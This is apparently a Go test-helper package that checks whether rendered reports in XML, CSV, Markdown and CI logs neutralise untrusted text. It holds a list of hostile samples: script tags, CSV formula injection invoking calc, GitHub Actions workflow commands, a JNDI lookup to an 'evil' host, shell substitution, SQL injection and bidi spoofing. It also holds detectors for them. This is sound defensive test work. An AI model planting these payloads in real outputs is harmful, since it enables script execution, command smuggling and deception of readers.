// Package sinktest reads rendered texts as their readers do, and fails a test
// when something of an untrusted text means more than itself. Only tests use it.
package sinktest

import (
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"io"
	"regexp"
	"strconv"
	"strings"
	"testing"
)

// Hostile are texts that a target, or whoever wrote the scenario, may put
// wherever a report shows a text.
var Hostile = []string{
	`<script>alert(1)</script>`,
	`"><img src=x onerror=alert(1)>`,
	`</script></style></textarea></title><svg onload=alert(1)>`,
	`<!-- --> ]]> <![CDATA[ <?php ?>`,
	`javascript:alert(1) https://evil.example www.evil.example`,
	"`code` ``two`` **bold** _it_ ~~del~~ [x](javascript:alert(1)) ![y](https://evil.example/p.png) @admin #1 :tada:",
	"| a | b |\n|---|---|\n- item\n# heading\n> quote\n```\nfence",
	"\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
	"plain\u202egnp.exe\u2066x\u2069 zero\u200bwidth",
	"::error file=a.go,line=1::boom",
	"x\n::set-output name=verdict::pass\n::error::y\r::warning::z\u2028::notice::v\u0085::debug::w",
	"x\n::add-mask::y\r\n##[error]z\n##vso[task.complete result=Failed;]",
	`=cmd|' /C calc'!A0`, `+1+1`, `-2+3`, `@SUM(A1)`,
	"nul\x00 bad utf8 \xff\xfe high \x9b31m",
	`{{.R}} ${jndi:ldap://evil} $(id) %n`,
	`a" style="fill:red" onclick="x`, `' OR 1=1; --`, `a\b"c` + "\n" + `d`,
	strings.Repeat("long ", 4000),
	strings.Repeat("`", 300),
}

// Controls fails where a control or a bidi character came through.
func Controls(t testing.TB, format, s string) {
	t.Helper()
	for _, r := range s {
		if r < 0x20 && r != '\n' && r != '\t' || r >= 0x7f && r < 0xa0 || r >= 0x202A && r <= 0x202E || r >= 0x2066 && r <= 0x2069 {
			t.Errorf("%s: character %U in %.80q", format, r, s)
		}
	}
}

// XML fails unless text is well formed, each element is allowed, and no text
// holds a control.
func XML(t testing.TB, text string, allowed func(string, []xml.Attr) bool) {
	t.Helper()
	d := xml.NewDecoder(strings.NewReader(text))
	for {
		tok, err := d.Token()
		if err == io.EOF {
			return
		}
		if err != nil {
			t.Fatalf("xml: %v", err)
		}
		switch x := tok.(type) {
		case xml.StartElement:
			if !allowed(x.Name.Local, x.Attr) {
				t.Fatalf("xml: element %s %v", x.Name.Local, x.Attr)
			}
		case xml.CharData:
			Controls(t, "xml", string(x))
		}
	}
}

// Lines fails where a line begins like a command to a CI host's runner.
func Lines(t testing.TB, format, text string) {
	t.Helper()
	Controls(t, format, text)
	for _, l := range strings.Split(text, "\n") {
		l = strings.TrimLeft(l, " \t")
		if strings.HasPrefix(l, "::") || strings.HasPrefix(l, "##") {
			t.Fatalf("%s: a line begins like a workflow command: %.80q", format, l)
		}
	}
}

// CSV fails where a cell begins like a formula; the fourth may be a number.
func CSV(t testing.TB, text string) {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatalf("csv: %v", err)
	}
	for _, r := range rows {
		for i, c := range r {
			Controls(t, "csv", c)
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				if _, err := strconv.ParseFloat(c, 64); i != 3 || err != nil {
					t.Fatalf("csv: a cell begins like a formula: %.80q", c)
				}
			}
		}
	}
}

var (
	ourTags   = regexp.MustCompile(`</?(details|summary)>`)
	ourMarker = regexp.MustCompile(`(?m)^<!-- tussle:report:v1 id=[A-Za-z0-9_.-]* digest=[0-9a-f]{12} -->$`)
	fenced    = regexp.MustCompile("(?ms)^```(text|mermaid|bash)\n.*?^```$")
	bare      = regexp.MustCompile(`<|https?:/|www\.[a-z]|@[A-Za-z0-9]|(^|[^&])#[0-9]|\]\(|:[a-z]+:`)
)

// MarkdownBytes is what a comment may have.
const MarkdownBytes = 60_000

// Markdown takes away what is ours and what is code; nothing that means
// something to GitHub may remain.
func Markdown(t testing.TB, text string) {
	t.Helper()
	if len(text) > MarkdownBytes {
		t.Errorf("markdown: %d bytes", len(text))
	}
	Lines(t, "markdown", strings.ReplaceAll(text, "### ", ""))
	rest := fenced.ReplaceAllString(ourMarker.ReplaceAllString(text, ""), "")
	for _, l := range strings.Split(ourTags.ReplaceAllString(rest, ""), "\n") {
		if strings.HasPrefix(l, "```") {
			t.Fatalf("markdown: a fence of its own: %.80q", l)
		}
		l = WithoutCode(l)
		if at := bare.FindString(strings.ReplaceAll(l, `\`, "")); at != "" && !strings.Contains(l, `\]`) {
			t.Errorf("markdown: %q outside of code in %.200q", at, l)
		}
	}
}

// WithoutCode removes the code spans of one line by CommonMark's rule: a run
// of backticks ends at the next run of the same length; an escaped backtick
// begins none.
func WithoutCode(l string) string {
	var out bytes.Buffer
	for i := 0; i < len(l); {
		if l[i] == '\\' && i+1 < len(l) {
			out.WriteString(l[i : i+2])
			i += 2
			continue
		}
		if l[i] != '`' {
			out.WriteByte(l[i])
			i++
			continue
		}
		n := 0
		for i+n < len(l) && l[i+n] == '`' {
			n++
		}
		end := -1
		for j := i + n; j < len(l); {
			m := 0
			for j+m < len(l) && l[j+m] == '`' {
				m++
			}
			if m == n {
				end = j + m
				break
			}
			j += max(m, 1)
		}
		if end < 0 {
			out.WriteString(l[i : i+n])
			i += n
			continue
		}
		i = end
	}
	return out.String()
}
